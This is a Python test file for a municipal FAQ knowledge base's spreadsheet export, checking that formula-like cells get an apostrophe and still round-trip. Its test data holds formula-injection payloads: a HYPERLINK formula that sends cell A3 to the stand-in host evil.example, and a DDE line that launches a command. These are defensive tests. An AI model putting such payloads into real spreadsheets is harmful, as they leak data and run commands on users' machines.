"""knowledge.spreadsheet: no cell of a CSV or XLSX we write is a formula, and the FAQ file still round-trips."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from knowledge.kb import FaqEntry
from knowledge.kb_io import read_kb_file, write_kb_file
from knowledge.spreadsheet import TRIGGERS, csv_text, neutralise, restore

ATTACK = '=HYPERLINK("https://evil.example/?"&A3,"詳細")'


@pytest.mark.parametrize(
    "text",
    [
        ATTACK,
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
        "＝ＨＹＰＥＲＬＩＮＫ（）",  # full-width, as an IME types it
        "＋81",
        "－1",
        "＠mention",
        "'=already quoted",  # one more apostrophe, so that restore() gives this back
    ],
)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text: str) -> None:
    assert neutralise(text) == "'" + text
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize("value", ["住民票", "", "'quoted", "''", "a=b", " =1+1", 12, -3.5, None])
def test_everything_else_is_left_alone(value: object) -> None:
    assert neutralise(value) == value
    assert restore(value) == value


@settings(max_examples=300, deadline=None, derandomize=True)
@given(st.text(alphabet=st.sampled_from([*TRIGGERS, "'", "a", "あ", " "]), max_size=6))
def test_restore_undoes_neutralise_and_nothing_written_starts_like_a_formula(text: str) -> None:
    written = neutralise(text)
    assert restore(written) == text
    assert written[:1] not in TRIGGERS


def test_csv_text_neutralises_every_cell() -> None:
    text = csv_text(["番号", "=header"], [(1, ATTACK), (None, "-1"), (2, "普通の文")])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["番号", "'=header"], ["1", "'" + ATTACK], ["", "'-1"], ["2", "普通の文"]]
    assert text.endswith("\r\n")


ENTRY = FaqEntry(
    id="gomi-list",
    question="=ごみの日は?",
    answer="- 月曜: 燃やせるごみ\n- 木曜: 資源ごみ",
    category="ごみ",
    department="環境課",
    alt_questions=[ATTACK, "@ごみ"],
    answer_en="+ Mondays",
    answer_easy="＋ げつようび",
    translations={"zh": "－周一"},
)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_the_faq_file_has_no_formula_and_reads_back_unchanged(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"faq{suffix}"
    write_kb_file([ENTRY], path)
    if suffix == ".csv":
        cells = next(iter(list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"))))[1:]))
    else:
        sheet = load_workbook(path).active
        assert all(cell.data_type == "s" for row in sheet.iter_rows() for cell in row if cell.value)
        cells = [cell.value or "" for cell in next(sheet.iter_rows(min_row=2))]
    assert cells[1] == "'=ごみの日は?" and cells[2].startswith("'- 月曜")
    assert not [cell for cell in cells if cell[:1] in TRIGGERS]
    result = read_kb_file(path)
    assert result.errors == [] and result.entries == [ENTRY]
